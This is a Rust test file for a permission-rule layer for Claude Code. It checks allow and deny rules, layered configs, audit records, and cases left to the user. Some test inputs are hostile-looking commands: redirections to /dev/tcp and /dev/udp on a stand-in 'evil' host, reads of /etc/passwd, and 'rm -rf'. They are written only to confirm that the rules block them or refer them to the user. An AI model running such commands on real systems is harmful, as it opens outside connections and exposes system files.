//! Rules of `permissionRequest`: a request in, the answer out.

use serde_json::{Value, json};

use crate::common::{Outcome, Test};

const CONFIG: &str = r#"permissionRequest:
  allow:
    - "Bash(git status*)"
    - "Read(./docs/**)"
  deny:
    - {pattern: "Bash(rm *)", message: "move it to trash/ instead"}
"#;

fn request(config: &str, tool: &str, input: Value) -> Test {
    let test = Test::event("PermissionRequest").without("agent_id").without("agent_type");
    test.config(config).payload("tool_name", tool).payload("tool_input", input)
}

fn bash(config: &str, command: &str) -> Test {
    request(config, "Bash", json!({ "command": command }))
}

const ALLOWED: &str =
    r#"{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"allow"}}}"#;

#[track_caller]
fn allowed(answer: &Outcome) {
    assert_eq!((answer.code, answer.stdout.trim_end()), (Some(0), ALLOWED), "{}", answer.stderr);
}

#[track_caller]
fn denied(answer: &Outcome) -> String {
    assert_eq!(answer.code, Some(0), "{}", answer.stderr);
    let json: Value = serde_json::from_str(&answer.stdout).unwrap();
    let message = json["hookSpecificOutput"]["decision"]["message"].as_str().unwrap().to_owned();
    let decision = json!({"behavior": "deny", "message": message});
    assert_eq!(
        json,
        json!({"hookSpecificOutput": {"hookEventName": "PermissionRequest", "decision": decision}})
    );
    answer.steady(&message)
}

#[test]
fn what_a_rule_allows_is_not_asked_about() {
    allowed(&bash(CONFIG, "git status -s").run());
    allowed(&request(CONFIG, "Read", json!({"file_path": "docs/a.md"})).run());
}

#[test]
fn what_a_rule_denies_is_denied_with_the_rule_and_its_line() {
    insta::assert_snapshot!(denied(&bash(CONFIG, "git status; rm x").run()), @"move it to trash/ instead (.conclaude.yaml:6, about running `rm x`)");
}

/// Nobody else would look at the request: a check that cannot run does not allow it.
#[test]
fn a_missing_program_still_denies_a_permission_each_time() {
    for (run, code) in [("no-such-check", 127), ("/etc/passwd", 126)] {
        let config = format!(
            "permissionRequest: {{commands: {{Bash: [{{run: {run}, show: never, onFailure: block, message: Not checked}}]}}}}\n"
        );
        let mut test = bash(&config, "git status");
        for _ in 0..2 {
            let done = test.run();
            let message = denied(&done);
            assert!(message.contains("✗ Not checked\n"), "{message}");
            assert!(message.contains(&format!("`{run}` exited with code {code} (a program")), "{message}");
            assert!(message.contains("(the check itself cannot run:"), "{message}");
            assert_eq!(done.audit().pop().unwrap()["decision"], "denied");
            test = done.again();
        }
    }
}

#[test]
fn what_no_rule_allows_is_left_to_the_user() {
    let logged = ["make", "git status > f", "git status '"].map(|command| {
        let done = bash(CONFIG, command).run().silent();
        done.stderr.lines().last().unwrap().to_owned()
    });
    insta::assert_snapshot!(logged.join("\n"), @"
    conclaude: info: permission for Bash: the user is asked, no rule allows `make`
    conclaude: info: permission for Bash: the user is asked, `git status` writes to a file by a redirection
    conclaude: info: permission for Bash: the user is asked, it cannot be parsed: a single quote is not closed (line 1)
    ");
}

#[test]
fn a_default_answers_what_no_rule_does() {
    insta::assert_snapshot!(denied(&bash("permissionRequest: {default: deny}", "make").run()), @"Running `make` is not allowed by any rule, and `permissionRequest.default` is `deny`. Do it another way, or ask the user. (.conclaude.yaml:1)");
    allowed(&bash("permissionRequest: {default: allow}", "make").run());
}

/// Claude Code asks for permission where a guard asked as well: a rule must not answer in the user's place.
#[test]
fn what_a_guard_asks_about_is_not_allowed_by_a_rule() {
    let config = r#"permissionRequest: {default: allow}
preToolUse:
  uneditableFiles: ["*.lock"]
  toolUsageValidation: [{tool: Bash, commandPattern: "terraform *", action: ask}]
"#;
    bash(config, "terraform apply").run().silent();
    bash(config, "echo > $file").run().silent();
    request(config, "Write", json!({"file_path": ".conclaude.yaml"})).run().silent();
    insta::assert_snapshot!(denied(&bash(config, "echo > Cargo.lock").run()), @"Writing Cargo.lock is not allowed: `uneditableFiles` has `*.lock`. Do it another way, or ask the user. (.conclaude.yaml:3)");
    allowed(&bash(config, "make").run());
}

#[test]
fn a_command_that_blocks_denies_what_a_rule_allows() {
    let config = |run: &str| {
        format!(
            "permissionRequest: {{default: allow, commands: {{Bash: [{{run: {run}, onFailure: block}}]}}}}"
        )
    };
    allowed(&bash(&config("'true'"), "make").run());
    insta::assert_snapshot!(denied(&bash(&config("'exit 3'"), "make").run()), @"
    conclaude denies this permission:
    ✗ `exit 3` exited with code 3
    ");
}

#[test]
fn a_symlink_does_not_lead_out_of_what_is_allowed() {
    let test = request(CONFIG, "Read", json!({"file_path": "docs/out/passwd"})).file("docs/a.md", "a");
    std::os::unix::fs::symlink("/etc", test.root().join("docs/out")).unwrap();
    test.run().silent();
}

#[test]
fn rules_of_an_untrusted_project_only_deny() {
    let trusting = |command: &str| bash(CONFIG, command).flag("--if-trusted");
    trusting("git status").run().silent();
    denied(&trusting("rm x").run());
    let start = Test::event("SessionStart").without("agent_id").config(CONFIG).flag("--if-trusted").run();
    insta::assert_snapshot!(start.message(), @"conclaude: [ROOT]/.conclaude.yaml is not trusted. These parts are off: permissions. Look at the file, then run `conclaude trust` in the project");
}

#[test]
fn a_broken_rule_is_an_error_of_the_config_and_allows_nothing() {
    let config =
        "permissionRequest:\n  default: yes\n  allow: [\"Bash(git\", \"Foo(x)\"]\n  deny: [{patern: Read}]\n";
    insta::assert_snapshot!(Test::stop().config(config).shows(&["validate"]), @r#"
    exit 1
    ----- stdout
    error: invalid value for `default`: the text "yes"
     --> [ROOT]/.conclaude.yaml:2:12
      |
    2 |   default: yes
      |            ^^^ expected one of `allow`, `deny`, `ask` or a mapping with `answer`

    error: invalid value for `allow`: the text "Bash(git"
     --> [ROOT]/.conclaude.yaml:3:11
      |
    3 |   allow: ["Bash(git", "Foo(x)"]
      |           ^^^^^^^^^^ expected a pattern of tools, such as `Read` or `Bash(git status*)` or a mapping with `pattern`
      |
      = help: it must end with the `)` that closes its `(`

    error: invalid value for `allow`: the text "Foo(x)"
     --> [ROOT]/.conclaude.yaml:3:23
      |
    3 |   allow: ["Bash(git", "Foo(x)"]
      |                       ^^^^^^^^ expected a pattern of tools, such as `Read` or `Bash(git status*)` or a mapping with `pattern`
      |
      = help: what is in parentheses is compared for Bash, Monitor, PowerShell, Read, Edit, Write, WebFetch, Agent and Skill only; write `Foo` for every use of it

    error: unknown key `patern` in `deny`
     --> [ROOT]/.conclaude.yaml:4:11
      |
    4 |   deny: [{patern: Read}]
      |           ^^^^^^ not a key of this section
      |
      = help: did you mean `pattern`?

    error: missing field `pattern` in `deny`
     --> [ROOT]/.conclaude.yaml:4:11
      |
    4 |   deny: [{patern: Read}]
      |           ^^^^^^ `pattern` is required here

    error: invalid config [ROOT]/.conclaude.yaml: 5 problems
    "#);
    let broken = bash(config, "git status").run();
    assert_eq!((broken.code, broken.stdout.as_str()), (Some(0), ""), "{}", broken.stderr);
}

#[test]
fn a_decision_about_a_permission_is_recorded() {
    let answer = bash(CONFIG, "git status").run();
    allowed(&answer);
    let answer = answer.again().payload("tool_input", json!({"command": "rm x"})).run();
    denied(&answer);
    let shown = answer.again().shows(&["audit", "show"]);
    insta::assert_snapshot!(shown, @"
    exit 0
    ----- stdout
        1 [TIME] PermissionRequest Bash `git status` allowed
            PERMISSION_ALLOWED: Running `git status` is allowed: `permissionRequest.allow` has `Bash(git status*)`. (.conclaude.yaml:3)
        2 [TIME] PermissionRequest Bash `rm x` denied
            PERMISSION_DENIED: move it to trash/ instead (.conclaude.yaml:6)
    ");
}

/// `watch` shows from this record on that somebody waits.
#[test]
fn a_request_that_no_rule_answers_is_recorded_as_a_question() {
    let answer = bash(CONFIG, "make").run().silent();
    let shown = answer.again().shows(&["audit", "show"]);
    insta::assert_snapshot!(shown, @"
    exit 0
    ----- stdout
        1 [TIME] PermissionRequest Bash `make` asked
            no rule answers it, so the client asks the user
    ");
    let answer =
        bash("permissionRequest: {commands: {Bash: [{run: 'true', files: ['*.rs']}]}}", "make").run();
    assert!(!answer.has(".conclaude/audit"), "{:?}", answer.audit());
}

#[test]
fn rules_for_permissions_are_registered_for_their_tools() {
    for (rules, matcher) in [
        (r#"{allow: ["Bash(git *)"]}"#, json!("Bash|Monitor")),
        (r#"{deny: ["Read(.env)"]}"#, json!("Read|NotebookRead|Grep|Glob|Bash|Monitor|PowerShell")),
        (r#"{allow: ["mcp__github"]}"#, json!("^(mcp__github|mcp__github__.*)$")),
        ("{default: deny}", Value::Null),
    ] {
        let test = Test::stop().config(&format!("permissionRequest: {rules}\n"));
        test.shows(&["install"]);
        let settings = std::fs::read_to_string(test.root().join(".claude/settings.json")).unwrap();
        let settings: Value = serde_json::from_str(&settings).unwrap();
        assert_eq!(settings["hooks"]["PermissionRequest"][0]["matcher"], matcher, "{rules}");
    }
    let test = Test::stop().config("permissionRequest: {}\n");
    test.shows(&["install"]);
    let settings = std::fs::read_to_string(test.root().join(".claude/settings.json")).unwrap();
    assert!(!settings.contains("PermissionRequest"), "{settings}");
}

#[test]
fn an_inner_layer_does_not_allow_what_an_outer_one_denies_unless_that_says_so() {
    let user = r#"permissionRequest:
  deny: ["Bash(rm *)", {pattern: "Bash(make *)", overridable: true}]
"#;
    let project = r#"permissionRequest: {allow: ["Bash(rm *)", "Bash(make *)", "Bash(ls *)"]}"#;
    let ask = |command: &str| bash(project, command).file(USER, user).run();
    insta::assert_snapshot!(denied(&ask("rm x")), @"Running `rm x` is denied: `permissionRequest.deny` has `Bash(rm *)`. Do it another way, or ask the user. (.home/.config/conclaude/config.yaml:2)");
    allowed(&ask("make x"));
    allowed(&ask("ls"));
}

#[test]
fn validate_counts_the_rules_of_each_section() {
    let config = r#"permissionRequest: {default: deny, allow: [Read], deny: ["Bash(rm *)"]}
userPromptSubmit: {contextRules: [{pattern: x, prompt: y}], slashCommands: {commands: {z: [{run: a}]}}}
preToolUse: {uneditableFiles: ["*.lock"], preventRootAdditions: true}
subagentStart: {commands: {}}
"#;
    insta::assert_snapshot!(Test::stop().config(config).shows(&["validate"]), @"
    exit 0
    ----- stdout
    valid: [ROOT]/.conclaude.yaml
      permissionRequest: 3 rules
      userPromptSubmit: 1 context rule, 1 slash command
      preToolUse: 2 guards
      subagentStart: 0 patterns, 0 commands
    ");
}

const USER: &str = ".home/.config/conclaude/config.yaml";

#[test]
fn what_an_outer_layer_denies_by_default_no_inner_one_allows() {
    let ask = |user: &str, project: &str| bash(project, "git status").file(USER, user).run();
    let allow = "permissionRequest: {allow: ['Bash(git *)']}";
    let deny = "permissionRequest: {default: deny}";
    let is_denied = |user: &str, project: &str| denied(&ask(user, project));
    insta::assert_snapshot!(is_denied(deny, allow), @"Running `git status` is not allowed by any rule, and `permissionRequest.default` is `deny`. Do it another way, or ask the user. (.home/.config/conclaude/config.yaml:1)");
    is_denied(deny, "permissionRequest: {default: allow}");
    // Saying the same again does not get around it.
    is_denied(deny, "permissionRequest: {default: deny, allow: ['Bash(git *)']}");
    is_denied("permissionRequest: {default: {answer: deny}}", allow);
    is_denied("permissionRequest: {deny: ['Bash(git *)']}", allow);
    is_denied("permissionRequest: {deny: ['Bash(git *)']}", "permissionRequest: {default: allow}");
    allowed(&ask("permissionRequest: {default: {answer: deny, overridable: true}}", allow));
    let relaxed = "permissionRequest: {default: {answer: deny, overridable: true}}";
    allowed(&ask(relaxed, "permissionRequest: {default: allow}"));
    is_denied(relaxed, deny);
    // The layer itself, and what it leaves to the user.
    allowed(&ask("permissionRequest: {default: deny, allow: ['Bash(git *)']}", ""));
    allowed(&ask("permissionRequest: {default: ask}", allow));
    let project = bash("permissionRequest: {default: deny}", "git status");
    denied(&project.file(".conclaude.local.yaml", allow).run());
}

#[test]
fn a_request_whose_input_cannot_be_read_is_left_to_the_user_where_a_rule_compares_it() {
    let config =
        "permissionRequest: {default: allow, deny: ['Bash(rm *)', 'Edit(//etc/**)', 'Agent(coder)']}";
    let mut shown = String::new();
    let mut left = |tool: &str, input: Value| {
        let answer = request(config, tool, input.clone()).run().silent();
        shown += &format!("{tool} {input}: {}\n", answer.stderr.lines().last().unwrap());
    };
    left("Bash", json!({"command": ["rm", "-rf", "x"]}));
    left("Bash", json!({}));
    left("Bash", json!("rm -rf x"));
    left("Write", json!({"file_path": ["/etc/passwd"]}));
    left("Write", json!({}));
    left("Agent", json!({"prompt": "do it"}));
    insta::assert_snapshot!(shown, @r#"
    Bash {"command":["rm","-rf","x"]}: conclaude: info: permission for Bash: the user is asked, its `command` is missing or cannot be read, so its effect is unknown
    Bash {}: conclaude: info: permission for Bash: the user is asked, its `command` is missing or cannot be read, so its effect is unknown
    Bash "rm -rf x": conclaude: info: permission for Bash: the user is asked, its `command` is missing or cannot be read, so its effect is unknown
    Write {"file_path":["/etc/passwd"]}: conclaude: info: permission for Write: the user is asked, its `file_path` is missing or cannot be read, so its effect is unknown
    Write {}: conclaude: info: permission for Write: the user is asked, its `file_path` is missing or cannot be read, so its effect is unknown
    Agent {"prompt":"do it"}: conclaude: info: permission for Agent: the user is asked, its `subagent_type` is missing or cannot be read, so its effect is unknown
    "#);
    allowed(&request(config, "WebSearch", json!({})).run());
    allowed(
        &request("permissionRequest: {default: allow, deny: ['WebFetch(domain:x.org)']}", "Bash", json!({}))
            .run(),
    );
}

#[test]
fn a_redirection_that_opens_a_connection_is_not_allowed_by_a_pattern_for_its_command() {
    let config = "permissionRequest: {allow: ['Bash(cat *)', 'Bash(cat)', 'Bash(echo *)']}";
    for command in
        ["cat < /dev/tcp/evil/80", "{ cat; } < /dev/udp/evil/80", "cat /dev/null <>/dev/tcp/evil/80"]
    {
        let answer = bash(config, command).run();
        assert_eq!((answer.code, &*answer.stdout), (Some(0), ""), "{command}");
    }
    allowed(&bash(config, "echo x > /dev/stderr").run());
    allowed(&bash(config, "cat < README.md").run());
}

#[test]
fn the_default_does_not_answer_what_the_user_is_asked() {
    for default in ["allow", "deny"] {
        let config = format!("permissionRequest: {{default: {default}}}");
        for tool in ["ExitPlanMode", "AskUserQuestion"] {
            request(&config, tool, json!({"plan": "x"})).run().silent();
        }
    }
    let config = "permissionRequest: {default: ask, allow: [ExitPlanMode]}";
    allowed(&request(config, "ExitPlanMode", json!({"plan": "x"})).run());
}

#[test]
fn one_question_is_one_record() {
    let config =
        "preToolUse: {toolUsageValidation: [{tool: Bash, commandPattern: 'npm publish*', action: ask}]}";
    let asked = Test::bash(config, "npm publish").run();
    asked.tool("ask");
    let answer = asked.again().then("PermissionRequest").run();
    assert_eq!((answer.code, &*answer.stdout), (Some(0), ""), "{}", answer.stderr);
    let records: Vec<String> =
        answer.audit().iter().map(|one| format!("{} {}", one["event"], one["decision"])).collect();
    assert_eq!(records, [r#""PreToolUse" "asked""#]);
}

#[test]
fn a_command_with_a_timeout_is_allowed_as_it_is_without() {
    let config = "permissionRequest: {allow: ['Bash(cargo test:*)']}";
    for command in
        ["time cargo test", "timeout 60 cargo test", "timeout -k 5 60 cargo test --lib", "nice cargo test"]
    {
        allowed(&bash(config, command).run());
    }
    for command in ["timeout 60 cargo build", "timeout $N cargo test", "timeout 60 sh -c 'cargo build'"] {
        let answer = bash(config, command).run();
        assert_eq!((answer.code, &*answer.stdout), (Some(0), ""), "{command}");
    }
}
